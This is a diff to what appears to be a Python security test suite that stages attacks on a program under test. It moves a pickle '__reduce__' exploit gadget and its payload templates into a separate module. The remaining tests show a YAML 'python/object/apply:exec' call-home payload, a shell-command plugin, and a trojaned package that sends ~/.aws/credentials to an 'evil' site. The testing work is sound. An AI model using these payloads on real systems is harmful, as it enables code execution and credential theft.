@@ -4,6 +4,7 @@ import json
 import os
 import pickle
 
+from attackers import Bomb, CALL_HOME, FORK_AND_EXEC, THEFT
 import stage
 
 TITLES = {"__init__.py": '''"""Titles."""
@@ -43,14 +44,6 @@ EVIL_PLUGIN = '''
 import os
 os.system("id > {marker}")
 '''
-
-
-class Bomb:
-    def __init__(self, *call):
-        self.call = call
-
-    def __reduce__(self):
-        return self.call[0], self.call[1:]
 
 
 class MediaFetcher(stage.Program):
@@ -263,7 +256,7 @@ class MediaFetcher(stage.Program):
     def list_calls_home(self):
         with self.listener() as attacker:
             self.loads("!!python/object/apply:exec\n- " + json.dumps(
-                stage.CALL_HOME.format(port=self.port("shell"))))
+                CALL_HOME.format(port=self.port("shell"))))
             return self.happens(lambda: b"got-42" in attacker.heard)
 
     @stage.attack("ctypes")
@@ -284,7 +277,7 @@ class MediaFetcher(stage.Program):
     @stage.attack("fork+exec")
     def state_forks_and_execs(self):
         marker = self.marker("fork")
-        self.remembers(exec, stage.FORK_AND_EXEC.format(
+        self.remembers(exec, FORK_AND_EXEC.format(
             line=f"id > {marker}"))
         return self.happens(marker.exists)
 
@@ -310,7 +303,7 @@ class MediaFetcher(stage.Program):
     def titles_steal_credentials(self):
         evil = self.site("evil")
         evil.page("*", b"")
-        self.install("titles", "1.4.1", {"__init__.py": stage.THEFT.format(
+        self.install("titles", "1.4.1", {"__init__.py": THEFT.format(
             url=evil.url, file="~/.aws/credentials")
             + TITLES["__init__.py"]})
         self.opens()
